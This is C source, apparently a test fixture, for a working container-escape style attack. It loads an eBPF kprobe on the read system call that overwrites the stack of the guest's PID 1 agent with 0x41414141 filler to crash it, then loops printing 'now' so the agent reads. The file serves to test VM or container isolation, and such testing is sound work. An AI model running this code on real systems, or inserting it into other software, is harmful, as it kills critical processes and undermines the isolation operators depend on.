/* Kills the agent of a guest, from a container that may do everything. No signal reaches PID 1 from within, and no
 * process of a container sees it; but a program in the guest's kernel (bpf(2), at a kprobe) writes over its
 * stack when it next reads. Compiled and run by machines.rs.
 */
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#define INSN(op, dst, src, offset, value) ((struct bpf_insn){ op, dst, src, offset, value })
#define MOVE(dst, src) INSN(BPF_ALU64 | BPF_MOV | BPF_X, dst, src, 0, 0)
#define SET(dst, value) INSN(BPF_ALU64 | BPF_MOV | BPF_K, dst, 0, 0, value)
#define ADD(dst, value) INSN(BPF_ALU64 | BPF_ADD | BPF_K, dst, 0, 0, value)
#define LOAD(dst, src, offset) INSN(BPF_LDX | BPF_DW | BPF_MEM, dst, src, offset, 0)
#define STORE(offset) INSN(BPF_ST | BPF_DW | BPF_MEM, 10, 0, offset, 0x41414141)
#define CALL(helper) INSN(BPF_JMP | BPF_CALL, 0, 0, 0, helper)
#define STORES(offset) STORE(offset), STORE(offset + 8), STORE(offset + 16), STORE(offset + 24)

/* Where x86-64's pt_regs has the first argument and the stack pointer. */
enum { DI = 112, SP = 152 };

static struct bpf_insn program[] = {
    MOVE(6, 1),
    CALL(BPF_FUNC_get_current_pid_tgid),
    INSN(BPF_ALU64 | BPF_RSH | BPF_K, 0, 0, 0, 32),
    INSN(BPF_JMP | BPF_JNE | BPF_K, 0, 0, 23, 1),
    /* The system call's only argument is the registers of whoever made it. */
    LOAD(3, 6, DI), ADD(3, SP), MOVE(1, 10), ADD(1, -8), SET(2, 8),
    CALL(BPF_FUNC_probe_read_kernel),
    STORES(-136), STORES(-104), STORES(-72),
    LOAD(1, 10, -8), MOVE(2, 10), ADD(2, -136), SET(3, 96),
    CALL(BPF_FUNC_probe_write_user),
    SET(0, 0),
    INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0),
};

int main(void) {
    static char log[65536];
    union bpf_attr load = { 0 };
    load.prog_type = BPF_PROG_TYPE_KPROBE;
    load.insns = (uintptr_t)program, load.insn_cnt = sizeof program / sizeof *program;
    load.license = (uintptr_t) "GPL";
    load.log_buf = (uintptr_t)log, load.log_size = sizeof log, load.log_level = 1;
    int loaded = syscall(SYS_bpf, BPF_PROG_LOAD, &load, sizeof load);
    if (loaded < 0) return perror("bpf"), fputs(log, stderr), 1;
    struct perf_event_attr at = { .size = sizeof at };
    FILE *kind = fopen("/sys/bus/event_source/devices/kprobe/type", "r");
    if (!kind || fscanf(kind, "%u", &at.type) != 1) return perror("kprobe"), 1;
    at.config1 = (uintptr_t) "__x64_sys_read";
    int probe = syscall(SYS_perf_event_open, &at, -1, 0, -1, PERF_FLAG_FD_CLOEXEC);
    if (probe < 0 || ioctl(probe, PERF_EVENT_IOC_SET_BPF, loaded) || ioctl(probe, PERF_EVENT_IOC_ENABLE, 0))
        return perror("kprobe"), 1;
    /* What is said is read by the agent. */
    for (;;) puts("now"), fflush(stdout), usleep(100000);
}
